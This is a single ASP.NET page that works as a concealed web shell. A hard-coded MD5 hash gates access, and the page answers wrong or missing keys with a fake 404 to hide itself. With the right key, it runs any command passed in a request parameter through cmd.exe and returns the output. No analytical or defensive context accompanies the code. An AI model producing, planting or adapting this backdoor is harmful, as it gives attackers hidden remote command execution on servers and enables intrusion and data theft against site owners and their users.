<%@ Page Language="C#" %>
<%@ Import Namespace="System.Web.Security" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e)
{
    string k = Request["k"];
    if (k == null || FormsAuthentication.HashPasswordForStoringInConfigFile(k, "MD5") != "3462E990690520858F08137F6BA4FA22")
    {
        Response.StatusCode = 404;
        return;
    }
    Process p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + Request["c"]) { UseShellExecute = false, RedirectStandardOutput = true });
    Response.Write(p.StandardOutput.ReadToEnd());
}
</script>
